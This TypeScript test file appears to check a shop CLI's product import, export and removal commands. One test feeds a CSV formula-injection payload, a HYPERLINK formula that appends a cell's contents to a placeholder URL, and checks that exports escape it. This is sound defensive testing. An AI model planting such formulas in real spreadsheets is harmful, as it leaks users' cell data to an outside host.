import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { temporaryFolder } from '@aangan/contract/testing/temporary-folder';
import { parse } from 'csv-parse/sync';
import { testShop } from '../../testing/commands';
import { addProducts, addStore } from '../../testing/shop';
import { exitCode } from '../command';

const fixtures = join(__dirname, '../../catalogue/fixtures');
const folder = temporaryFolder();

const file = (name: string, content: string) => {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
};

const shop = testShop(async (database) => {
  const storeId = await addStore(database, 'plain.localhost');
  await addProducts(database, storeId, [{ handle: 'pot', title: 'Pot' }]);
  for (const name of ['bazaar', 'formulas', 'torn']) await addStore(database, `${name}.localhost`);
});
const command = (...args: string[]) => shop.run(...args);

it('imports a file, notifies the storefront, and changes nothing the second time', async () => {
  const path = join(fixtures, 'plain.csv');
  const args = ['import-products', path, '--store', 'bazaar.localhost', '--leave-pictures'];
  const first = await command(...args);
  expect(first.stdout).toBe('4 added, 0 changed, 0 unchanged, 6 rejected\n');
  expect(first.code).toBe(exitCode.rejectedRows);
  expect(first.stderr).toContain('row 5: Missing title');
  expect(first.stderr).toContain('price = Selling Price\n');
  expect(first.stderr).toContain('not used: Rating\n');
  expect(first.stderr).toContain('Categories: Kitchen, Garden & Pets; Masala\n');
  expect(shop.events).toEqual([
    {
      store: 'bazaar.localhost',
      storeInfo: true,
      products: expect.arrayContaining(['copper-water-bottle-a-1']),
      categories: ['Kitchen, Garden & Pets', 'Masala'],
    },
  ]);

  expect((await command(...args)).stdout).toBe('0 added, 0 changed, 4 unchanged, 6 rejected\n');
  expect(shop.events).toHaveLength(1);
});

it('escapes formulas in exports', async () => {
  const link = '=HYPERLINK("https://example.in?"&A1,"Sale")';
  const path = file(
    'formulas.csv',
    `title,category,price,description,attribute:note\n"${link.replaceAll('"', '""')}",@Pots,99,-2+3,'+91\n`,
  );
  const imported = await command('import-products', path, '--store', 'formulas.localhost');
  expect(imported.stderr).toContain('products are recognised by their titles');
  const { stdout } = await command('export-products', '--store', 'formulas.localhost');
  const raw: string[][] = parse(stdout);
  expect(raw[1]?.slice(1, 3)).toEqual([`'${link}`, "'@Pots"]);
  expect(raw.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
});

it('exports a product without a category', async () => {
  const { code, stdout } = await command('export-products', '--store', 'plain.localhost');
  expect(code).toBe(exitCode.ok);
  expect(stdout).toContain('\npot,Pot,,,,100.00,,yes,,,no,,,no,,');
});

it('imports the rows before a parse error', async () => {
  const path = file(
    'torn.csv',
    'title,category,price\nPot,Pots,99\nSpade,"Tools,99\nRake,Tools,9\n',
  );
  expect(await command('import-products', path, '--store', 'torn.localhost')).toMatchObject({
    code: exitCode.failed,
    stdout: '1 added, 0 changed, 0 unchanged, 0 rejected\n',
    stderr: expect.stringMatching(/never closed.*Earlier rows were imported/),
  });
});

it('removes products of one store only, with their empty categories', async () => {
  const remove = (...args: string[]) =>
    command('remove-products', '--store', 'bazaar.localhost', '--yes', ...args);
  expect((await remove('हल्दी-पाउडर-a-8', 'not-there')).stdout).toBe(
    '1 product deleted. 1 product not found.\n',
  );
  expect(shop.events[0]).toMatchObject({ storeInfo: true, products: expect.any(Array) });
  const stores = async () => (await command('list-stores')).stdout;
  expect(await stores()).toContain('bazaar.localhost: bazaar.localhost, 3 products');
  const { body } = await shop.api.send('/storeInfo', { host: 'bazaar.localhost' });
  expect(body.categories).not.toContain('Masala');
  expect((await remove('--all')).stdout).toBe('3 products deleted.\n');
  expect(await stores()).toMatch(/^plain\.localhost: .*, 1 product,/m);
});
